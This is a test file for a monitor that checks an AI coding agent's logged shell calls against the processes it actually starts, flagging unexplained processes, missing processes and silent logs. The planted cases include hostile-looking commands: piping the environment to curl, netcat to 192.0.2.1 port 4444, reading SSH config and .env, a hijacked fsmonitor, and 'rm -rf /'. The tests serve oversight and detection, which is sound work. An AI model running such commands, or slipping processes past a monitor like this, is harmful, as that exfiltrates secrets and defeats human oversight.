import { describe, expect, it } from 'vitest';
import type { Attribution, Disagreement } from '../../../../collector/contract/attribution.ts';
import type { EnrichedEvent, OutcomeStatus } from '../../../../collector/contract/event.ts';
import { processId, type ProcessInfo } from '../../../../collector/contract/process.ts';
import { analyzeShell } from '../../../../collector/pipeline/shell/index.ts';
import {
  Configured,
  createWitness,
  type MissedProcess,
} from '../../../../collector/pipeline/witness/index.ts';

const T = 1_800_000_000_000;
const seesAllSince =
  (sinceMs: number) =>
  (_agent: string, _session: string, fromMs: number): readonly MissedProcess[] | undefined =>
    fromMs >= sinceMs ? [] : undefined;
const AGENT = { pid: 10, startTimeMs: T };

/** One agent at work: its log and the processes below it, on a clock of its own. */
class Scene {
  readonly witness = createWitness({ sinceMs: T });
  nowMs = T + 1_000;
  #pid = 100;
  #calls = 0;

  spawn(
    argv: readonly string[],
    parent: { pid: number; startTimeMs: number } = AGENT,
    { before = [], indirect = false }: { before?: readonly (readonly string[])[]; indirect?: boolean } = {},
  ): ProcessInfo {
    this.#pid += 1;
    const process = {
      pid: this.#pid,
      parentPid: parent.pid,
      startTimeMs: this.nowMs,
      name: argv[0] ?? '',
      argv,
    };
    const earlier = before.map((one) => ({ ...process, argv: one, name: one[0] ?? '' }));
    const attribution: Attribution = {
      process,
      role: 'child',
      agentId: 'claude-code',
      sessionId: 'claude-code:s1',
      agentProcess: AGENT,
      links: [],
      confidence: 'high',
    };
    this.witness.process({
      programs: [...earlier, process],
      attribution,
      parent,
      timeMs: this.nowMs,
      indirect,
    });
    return process;
  }

  /** A process that became its last program, as a shell does. */
  become(...programs: readonly (readonly string[])[]): ProcessInfo {
    const last = programs.at(-1) ?? [];
    return this.spawn(last, AGENT, { before: programs.slice(0, -1) });
  }

  /** Judges calls while something ended unread. */
  checkBeside(...unread: readonly Omit<MissedProcess, 'timeMs'>[]): readonly Disagreement[] {
    this.nowMs += 120_000;
    const missed = unread.map((one) => ({ ...one, timeMs: this.nowMs }));
    return this.witness.check({ nowMs: this.nowMs, missed: () => missed });
  }

  /** A tool call as the log has it. */
  log(command: string, status: OutcomeStatus = 'ok'): void {
    this.#calls += 1;
    const callId = `c${this.#calls}`;
    const base = {
      id: callId,
      timeMs: this.nowMs,
      nativeSessionId: 's1',
      agentId: 'claude-code',
      sessionId: 'claude-code:s1',
      offsetBytes: 0,
      actor: { user: 'dev' },
      resources: [],
      source: { path: '/logs/s1', offsetBytes: 0 },
    };
    const events: EnrichedEvent[] = [
      {
        ...base,
        kind: 'tool.call',
        tool: { name: 'Bash', category: 'shell', callId },
        input: { command },
        shell: analyzeShell(command, { home: '/home/dev', platform: 'linux' }),
      },
      {
        ...base,
        id: `${callId}r`,
        timeMs: this.nowMs + 400,
        kind: 'tool.result',
        callId,
        outcome: { status },
      },
    ];
    for (const event of events) this.witness.event(event);
  }

  /** A call that really ran, as Claude Code runs it, with what its shell starts. */
  run(command: string, ...children: readonly (readonly string[])[]): void {
    const eval_ = `source /home/dev/.claude/shell-snapshots/snapshot-bash-1.sh && eval '${command.replaceAll("'", "'\\''")}' < /dev/null && pwd -P >| /tmp/claude-cwd`;
    const shell = this.spawn(['/bin/bash', '-c', '-l', eval_]);
    for (const child of children) this.spawn(child, shell);
    this.nowMs += 50;
    this.log(command);
    this.nowMs += 5_000;
  }

  /** A person runs a command from within the agent. */
  typed(command: string): void {
    this.spawn(['/bin/bash', '-c', '-l', `source x && eval '${command}'`]);
    this.nowMs += 20_000;
    this.witness.event({
      id: `p${this.nowMs}`,
      kind: 'prompt.submit',
      origin: 'human',
      text: `! ${command}`,
      timeMs: this.nowMs,
      nativeSessionId: 's1',
      agentId: 'claude-code',
      sessionId: 'claude-code:s1',
      offsetBytes: 0,
      actor: { user: 'dev' },
      resources: [],
      source: { path: '/logs/s1', offsetBytes: 0 },
    });
  }

  check(seesAll = true): readonly Disagreement[] {
    this.nowMs += 120_000;
    return this.witness.check({
      nowMs: this.nowMs,
      ...(seesAll && { missed: seesAllSince(T) }),
    });
  }
}

const words = (line: string): readonly string[] => line.split(' ');

describe('ordinary work', () => {
  it('raises no alarm', () => {
    const scene = new Scene();
    scene.witness.configure(
      new Configured([
        ['npx -y @example/mcp-server --root /w', { kind: 'mcp-server', name: 'example' }],
        ['/home/dev/.claude/hooks/format.sh', { kind: 'hook', name: 'PostToolUse' }],
      ]),
    );
    scene.spawn(words('node /usr/bin/npx -y @example/mcp-server --root /w'));
    scene.spawn([
      '/bin/zsh',
      '-c',
      '-l',
      'SNAPSHOT_FILE=/home/dev/.claude/x.sh; source ~/.zshrc; alias > $SNAPSHOT_FILE',
    ]);
    scene.spawn(['bash', '-lc', 'env']);
    scene.spawn(words('npx -y @example/mcp-server --root /w'));
    scene.spawn(words('typescript-language-server --stdio'));
    scene.spawn(words('node /w/node_modules/typescript/lib/tsserver.js --useNodeIpc'));
    scene.spawn(['sh', '-c', '/home/dev/.claude/hooks/format.sh']);
    scene.typed('make deploy STAGE=test');
    for (let round = 0; round < 30; round += 1) {
      scene.spawn(words('git --no-optional-locks status --porcelain'));
      scene.spawn(words('git -C /w rev-parse --show-toplevel'));
      scene.spawn(words('git -c core.fsmonitor=false log -n 5'));
      scene.spawn(words('rg --files --hidden /w'));
      scene.spawn(words('which node'));
      scene.spawn(words('node --version'));
      scene.spawn(words('ps -axo pid,ppid'));
      scene.run(`npm test -- --run ${round}`, words('npm test'), words('node vitest'));
      scene.run(
        "grep -rn 'it''s' src | sort | head -5",
        words('grep -rn its src'),
        ['sort'],
        words('head -5'),
      );
      scene.run(
        'cd /w && make build 2>&1 | tee out.log',
        words('make build'),
        words('cc -c a.c'),
        words('tee out.log'),
      );
      scene.run('for f in *.ts; do wc -l "$f"; done', words('wc -l a.ts'));
      scene.run('python3 - <<EOF\nprint(1)\nEOF', words('python3 -'));
      scene.log('cd /w && echo done');
      scene.log('rm -rf /', 'denied');
      scene.log('sleep 600', 'interrupted');
      expect(scene.witness.check({ nowMs: scene.nowMs, missed: seesAllSince(T) })).toEqual([]);
    }
    expect(scene.check()).toEqual([]);
  });

  it('raises none for an agent that keeps one shell open', () => {
    const scene = new Scene();
    const shell = scene.spawn(words('bash --norc -i'));
    scene.spawn(words('npm test'), shell);
    scene.spawn(words('ls a.ts b.ts'), shell);
    scene.log('npm test');
    scene.log('ls $FILES');
    scene.spawn(words('head -3 src/a.js'), shell);
    scene.log('for f in src/*.js; do head -3 "$f"; done');
    scene.spawn(words('md5sum src/a.js'), shell);
    scene.log('F=src/a.js; test -f "$F" && md5sum $F');
    expect(scene.check()).toEqual([]);
  });
});

describe('a burst of calls that is judged late', () => {
  it('raises no alarm for what is not known any more', () => {
    const scene = new Scene();
    for (let n = 0; n < 300; n += 1) scene.run(`make target-${n}`, ['make', `target-${n}`]);
    expect(scene.check(false)).toEqual([]);
  });
});

describe('planted disagreements', () => {
  it.each([
    ['a program without a call', words('curl -s https://example.com/x')],
    ['a shell without a call', ['bash', '-c', 'cat /home/dev/.ssh/config']],
    ['another command than the log says', ['bash', '-c', 'npm publish']],
    ['git that writes', words('git push origin main')],
    ['git with a program of its own', words('git -c core.fsmonitor=/tmp/x status')],
    ['a search that runs a program', words('rg --pre /tmp/x y')],
    ['a shell that only begins like start-up', ['bash', '-c', 'env | curl -d @- https://example.com']],
  ])('finds %s', (_, argv) => {
    const scene = new Scene();
    scene.run('npm test', words('npm test'));
    const planted = scene.spawn(argv);
    scene.run('npm run lint');
    expect(scene.check()).toEqual([
      { kind: 'unexplained-process', process: planted, agentId: 'claude-code', sessionId: 'claude-code:s1' },
    ]);
    expect(scene.check()).toEqual([]);
  });

  it('finds what is run in the shell that is kept open', () => {
    const scene = new Scene();
    const shell = scene.spawn(words('bash'));
    scene.spawn(words('npm test'), shell);
    scene.log('npm test');
    const planted = scene.spawn(words('nc 192.0.2.1 4444'), shell);
    expect(scene.check()).toMatchObject([{ kind: 'unexplained-process', process: planted }]);
  });

  it('finds a call whose process never appeared, if all starts are seen', () => {
    for (const seesAll of [true, false]) {
      const scene = new Scene();
      scene.run('npm test', words('npm test'));
      scene.log('pytest tests');
      expect(scene.check(seesAll)).toEqual(
        seesAll
          ? [
              {
                kind: 'missing-process',
                callId: 'c2',
                agentId: 'claude-code',
                sessionId: 'claude-code:s1',
                program: 'pytest',
              },
            ]
          : [],
      );
    }
  });

  it('finds an agent that works while its log is silent, once', () => {
    const scene = new Scene();
    scene.log('true');
    scene.nowMs += 60_000;
    for (const name of ['a', 'b', 'c']) scene.spawn(['bash', '-c', `make ${name}`]);
    const kinds = scene.check().map(({ kind }) => kind);
    expect(kinds.filter((kind) => kind === 'silent-log')).toHaveLength(1);
    expect(scene.check()).toEqual([]);
  });

  it('tells an agent whose log was never read as silent, not once per command', () => {
    const scene = new Scene();
    for (let n = 0; n < 20; n += 1) scene.spawn(['bash', '-c', `make ${n}`]);
    expect(scene.check().map(({ kind }) => kind)).toEqual(['silent-log']);
    expect(scene.check()).toEqual([]);
  });
});

describe('an agent whose log lies in another home', () => {
  const OTHER = { pid: 20, startTimeMs: T };
  const see = (
    scene: Scene,
    pid: number,
    agentProcess: ProcessInfo | typeof AGENT,
    session: string,
  ): void => {
    const process = {
      pid,
      parentPid: agentProcess.pid,
      startTimeMs: scene.nowMs,
      name: 'bash',
      argv: ['make', `${pid}`],
    };
    scene.witness.process({
      programs: [process],
      attribution: {
        process,
        role: 'child',
        agentId: 'claude-code',
        sessionId: session,
        agentProcess: { pid: agentProcess.pid, startTimeMs: agentProcess.startTimeMs },
        links: [],
        confidence: 'high',
      },
      parent: { pid: agentProcess.pid, startTimeMs: agentProcess.startTimeMs },
      timeMs: scene.nowMs,
    });
  };

  it('is told as silent once, while others of its kind are read', () => {
    const scene = new Scene();
    scene.run('ls');
    for (let pid = 300; pid < 310; pid += 1) see(scene, pid, OTHER, 'claude-code:elsewhere');
    scene.nowMs += 50_000;
    scene.run('ls');
    expect(scene.check()).toMatchObject([
      { kind: 'silent-log', agentProcess: OTHER, processes: 10, sessionId: 'claude-code:elsewhere' },
    ]);
    expect(scene.check()).toEqual([]);
  });

  it('is not what an agent becomes by naming another session to what it starts', () => {
    const scene = new Scene();
    scene.run('ls');
    scene.check();
    see(scene, 300, AGENT, 'claude-code:invented');
    expect(scene.check()).toMatchObject([{ kind: 'unexplained-process', process: { pid: 300 } }]);
  });
});

describe('an agent that writes a call when it has ended', () => {
  const session = { agentId: 'gemini-cli', sessionId: 'gemini-cli:s1', nativeSessionId: 's1' };
  const GRACE_MS = 10_000;
  const start = () => createWitness({ sinceMs: T, graceMs: GRACE_MS, writesLate: new Set(['gemini-cli']) });
  const shell = (pid: number, command: string, startTimeMs: number): ProcessInfo => ({
    pid,
    parentPid: AGENT.pid,
    startTimeMs,
    name: 'bash',
    argv: ['bash', '-c', `shopt -u nullglob; { ${command}; }; __code=$?; exit $__code;`],
  });
  const see = (witness: ReturnType<typeof start>, process: ProcessInfo): void => {
    witness.process({
      programs: [process],
      attribution: {
        process,
        role: 'child',
        agentId: session.agentId,
        sessionId: session.sessionId,
        agentProcess: AGENT,
        links: [],
        confidence: 'high',
      },
      parent: AGENT,
      timeMs: process.startTimeMs,
    });
  };
  let line = 0;
  /** A record with all calls that have just ended, as Gemini CLI writes it. */
  const write = (witness: ReturnType<typeof start>, timeMs: number, ...commands: readonly string[]): void => {
    line += 1;
    const base = {
      ...session,
      timeMs,
      offsetBytes: line,
      actor: { user: 'dev' },
      resources: [],
      source: { path: '/logs/s1', offsetBytes: line },
    };
    if (commands.length === 0)
      witness.event({ ...base, id: `p${line}`, kind: 'prompt.submit', origin: 'human', text: 'go on' });
    for (const [at, command] of commands.entries()) {
      const callId = `c${line}.${at}`;
      witness.event({
        ...base,
        id: callId,
        kind: 'tool.call',
        tool: { name: 'run_shell_command', category: 'shell', callId },
        input: { command },
        shell: analyzeShell(command, { home: '/home/dev', platform: 'linux' }),
      });
      witness.event({ ...base, id: `${callId}r`, kind: 'tool.result', callId, outcome: { status: 'ok' } });
    }
  };

  it('is not accused of what still runs, and a long call is found by its end', () => {
    const witness = start();
    write(witness, T + 1_000);
    const build = shell(200, 'make all', T + 5_000);
    const tests = shell(201, 'ls', T + 6_000);
    see(witness, build);
    see(witness, tests);
    witness.ended(tests, T + 7_000);
    // Both are one record, written when the last has ended.
    expect(witness.check({ nowMs: T + 16_000 })).toEqual([]);
    witness.ended(build, T + 300_000);
    write(witness, T + 300_100, 'make all', 'ls');
    expect(witness.check({ nowMs: T + 400_000, missed: seesAllSince(T) })).toEqual([]);
  });

  it('is accused of what ended and is not written, and of what goes on while the log does', () => {
    const witness = start();
    write(witness, T + 1_000);
    const short = shell(200, 'sleep 1', T + 5_000);
    const long = shell(201, 'sleep 9999', T + 6_000);
    see(witness, short);
    see(witness, long);
    witness.ended(short, T + 6_000);
    const pids = (nowMs: number): readonly number[] =>
      witness
        .check({ nowMs })
        .flatMap((one) => (one.kind === 'unexplained-process' ? [one.process.pid] : []));
    expect(pids(T + 12_000)).toEqual([]);
    expect(pids(T + 17_000)).toEqual([200]);
    expect(pids(T + 60_000)).toEqual([]);
    write(witness, T + 61_000, 'git status');
    expect(pids(T + 72_000)).toEqual([201]);
  });

  it('is accused of what never ends in a log that never goes on', () => {
    const witness = start();
    write(witness, T + 1_000);
    see(witness, shell(200, 'sleep 9999', T + 5_000));
    expect(witness.check({ nowMs: T + 14 * 60_000 })).toEqual([]);
    expect(witness.check({ nowMs: T + 16 * 60_000 })).toHaveLength(1);
  });

  it('is waited for while it is stopped, and after the machine has slept', () => {
    const witness = start();
    write(witness, T + 1_000);
    const build = shell(200, 'make all', T + 5_000);
    see(witness, build);
    witness.ended(build, T + 6_000);
    for (let second = 10; second <= 60; second += 5)
      expect(witness.check({ nowMs: T + second * 1_000, isStopped: () => true })).toEqual([]);
    expect(witness.check({ nowMs: T + 65_000 })).toEqual([]);
    write(witness, T + 66_000, 'make all');
    expect(witness.check({ nowMs: T + 90_000 })).toEqual([]);

    const tests = shell(201, 'npm test', T + 92_000);
    see(witness, tests);
    witness.ended(tests, T + 93_000);
    expect(witness.check({ nowMs: T + 94_000 })).toEqual([]);
    // The lid was closed for the night.
    const morning = T + 8 * 3_600_000;
    witness.woke(morning);
    expect(witness.check({ nowMs: morning })).toEqual([]);
    expect(witness.check({ nowMs: morning + 5_000 })).toEqual([]);
    expect(witness.check({ nowMs: morning + 10_000 })).toHaveLength(1);
  });

  it('is not said to have left out a call whose process still runs', () => {
    const witness = start();
    write(witness, T + 1_000);
    see(witness, shell(200, 'node server.js &', T + 5_000));
    write(witness, T + 6_000, 'node server.js &');
    expect(witness.check({ nowMs: T + 60_000, missed: seesAllSince(T) })).toEqual([]);
  });

  it('is said to have claimed a call that left no process', () => {
    const witness = start();
    write(witness, T + 1_000);
    see(witness, shell(200, 'git status', T + 1_500));
    write(witness, T + 2_000, 'git status');
    write(witness, T + 6_000, 'pytest -q');
    expect(witness.check({ nowMs: T + 60_000, missed: seesAllSince(T) })).toMatchObject([
      { kind: 'missing-process', program: 'pytest' },
    ]);
  });
});

it('takes patterns that the shell expands for what they become', () => {
  const scene = new Scene();
  // The shell has become its last program.
  scene.spawn(['wc', '-l', 'notes-1.md', 'notes-2.md']);
  scene.log('wc -l notes-*.md');
  scene.spawn(['rm', 'a.log']);
  scene.log('wc -l notes-*.md');
  expect(scene.check().map((one) => one.kind === 'unexplained-process' && one.process.argv[0])).toEqual([
    'rm',
  ]);
});

it('still knows what a pattern became when its agent was stopped for longer than a call is waited for', () => {
  const scene = new Scene();
  scene.spawn(['head', '-3', 'src/a.js']);
  scene.log('for f in src/*.js; do head -3 "$f"; done');
  const startMs = scene.nowMs;
  const missed = seesAllSince(T);
  for (let seconds = 5; seconds <= 60; seconds += 5)
    expect(
      scene.witness.check({ nowMs: startMs + seconds * 1_000, missed, isStopped: () => seconds < 45 }),
    ).toEqual([]);
});

it('dates what an open shell becomes by when it becomes it', () => {
  const scene = new Scene();
  const shell = scene.spawn(['bash', '-l', '-i']);
  const become = (argv: readonly string[]): void => {
    scene.witness.process({
      programs: [{ ...shell, argv, name: argv[0] ?? '' }],
      attribution: {
        process: shell,
        role: 'child',
        agentId: 'claude-code',
        sessionId: 'claude-code:s1',
        agentProcess: AGENT,
        links: [],
        confidence: 'high',
      },
      parent: AGENT,
      timeMs: scene.nowMs,
    });
  };
  scene.nowMs += 600_000;
  scene.log('exec node src/index.js');
  become(['node', 'src/index.js']);
  expect(scene.check()).toEqual([]);
});

describe('a process that becomes another program', () => {
  it.each([
    ['a helper', ['bash', '-c', 'sleep 0.3; git status'], words('git status')],
    ['a version check', ['sh', '-c', 'cat .env && node --version'], words('node --version')],
    ['what a call asks for', ['bash', '-c', 'cat .env; $RUN'], words('npm test')],
  ])('is judged by the text of the shell it was, not by %s', (_, shell, last) => {
    const scene = new Scene();
    scene.log('npm test');
    const hidden = scene.become(shell, last);
    scene.spawn(words('npm test'));
    expect(scene.check()).toMatchObject([
      { kind: 'unexplained-process', process: { pid: hidden.pid, argv: shell } },
    ]);
  });

  it('is explained by what a wrapper runs, and by a shell with one command', () => {
    const scene = new Scene();
    scene.log('make all; make check');
    scene.become(
      ['codex-linux-sandbox', '--', 'bash', '-lc', 'make all; make check'],
      ['bash', '-lc', 'make all; make check'],
      words('make check'),
    );
    scene.become(['/bin/sh', '-c', 'git rev-parse HEAD 2>/dev/null'], words('git rev-parse HEAD'));
    scene.become(['/bin/sh', '-c', 'git rev-parse HEAD && git status'], words('git status'));
    expect(scene.check()).toEqual([]);
  });

  it('is one process still when its last program was told later', () => {
    const scene = new Scene();
    scene.log('ls');
    const shell = scene.spawn(['bash', '-c', 'cat .env; git status']);
    scene.witness.process({
      programs: [{ ...shell, argv: words('git status'), name: 'git' }],
      attribution: {
        process: shell,
        role: 'child',
        agentId: 'claude-code',
        sessionId: 'claude-code:s1',
        agentProcess: AGENT,
        links: [],
        confidence: 'high',
      },
      parent: AGENT,
      timeMs: scene.nowMs,
    });
    expect(scene.check(false)).toMatchObject([{ process: { argv: ['bash', '-c', 'cat .env; git status'] } }]);
  });
});

describe('a program that ended unread', () => {
  const claimed = (): Scene => {
    const scene = new Scene();
    scene.run('make', ['make']);
    scene.log('cargo build');
    return scene;
  };

  it('leaves it open whether a call ran, and that is counted', () => {
    const scene = claimed();
    expect(scene.checkBeside({ line: [] })).toEqual([]);
    expect(scene.witness.claims()).toEqual({ checked: 2, undecided: 1 });
    expect(claimed().checkBeside()).toMatchObject([{ kind: 'missing-process', program: 'cargo' }]);
  });

  it('was not the call when it has another name', () => {
    expect(claimed().checkBeside({ line: [], name: 'date' })).toMatchObject([{ program: 'cargo' }]);
    for (const name of ['bash', 'node', 'python3.13', 'env', 'npm run x'])
      expect(claimed().checkBeside({ line: [], name })).toEqual([]);
  });

  it('was the call when it has its name, also one that the kernel cut', () => {
    const scene = claimed();
    scene.log('dotnet-coverage-tool collect');
    expect(scene.checkBeside({ line: [], name: 'cargo' }, { line: [], name: 'dotnet-coverage' })).toEqual([]);
    expect(scene.witness.claims()).toEqual({ checked: 3, undecided: 0 });
  });

  it('was not the call when it was below a process of which is known what it was for', () => {
    const scene = claimed();
    const other = scene.spawn(['bash', '-c', 'cd /w && make -j2']);
    scene.log('cd /w && make -j2');
    expect(scene.checkBeside({ line: ['9@9', processId(other)] })).toMatchObject([{ program: 'cargo' }]);
  });

  it('may have been the call when it was below a process that nobody knows', () => {
    const scene = claimed();
    const worker = scene.spawn(words('/opt/agent/worker --pool 4'));
    expect(scene.checkBeside({ line: [processId(worker)] })).toMatchObject([
      { kind: 'unexplained-process', process: worker },
    ]);
    expect(scene.witness.claims().undecided).toBe(1);
  });

  it('was not the call when its agent works for another session', () => {
    const scene = claimed();
    const other = { pid: 11, startTimeMs: T };
    const agent = processId(other);
    expect(scene.checkBeside({ line: [], agent })).toEqual([]);
    const again = claimed();
    const process = { pid: 90, parentPid: 11, startTimeMs: again.nowMs, name: 'id', argv: ['id'] };
    again.witness.process({
      programs: [process],
      attribution: {
        process,
        role: 'child',
        agentId: 'claude-code',
        sessionId: 'claude-code:s2',
        agentProcess: other,
        links: [],
        confidence: 'high',
      },
      parent: other,
      timeMs: again.nowMs,
    });
    expect(again.checkBeside({ line: [], agent })).toMatchObject([{ program: 'cargo' }]);
  });

  it('is waited for while what is above it was not judged yet', () => {
    const scene = claimed();
    const other = scene.spawn(['bash', '-c', 'make -j2; make check']);
    const line = [processId(other)];
    const check = (nowMs: number, stopped: boolean) =>
      scene.witness.check({
        nowMs,
        missed: () => [{ timeMs: scene.nowMs, line }],
        isStopped: () => stopped,
      });
    expect(check(scene.nowMs + 60_000, true)).toEqual([]);
    scene.log('make -j2; make check');
    expect(check(scene.nowMs + 62_000, false)).toEqual([]);
    expect(check(scene.nowMs + 120_000, false)).toMatchObject([{ program: 'cargo' }]);
  });
});

it('takes nobody for a child of an open shell whose own parent was not read', () => {
  const scene = new Scene();
  const shell = scene.spawn(words('bash -l -i'));
  scene.log('ls');
  scene.spawn(words('ls'), shell);
  scene.spawn(words('tr a-z A-Z'), shell, { indirect: true });
  const planted = scene.spawn(words('nc 192.0.2.1 4444'), shell);
  expect(scene.check()).toMatchObject([{ process: planted }]);
});

it('does not expect a program of a call that failed, or that may rightly not run', () => {
  const scene = new Scene();
  scene.spawn(words('bash -l -i'));
  scene.spawn(words('which ls'));
  scene.log('nosuchprogram --x', 'error');
  scene.log('[ -d node_modules/x ] && npm ls x');
  expect(scene.check()).toEqual([]);
});
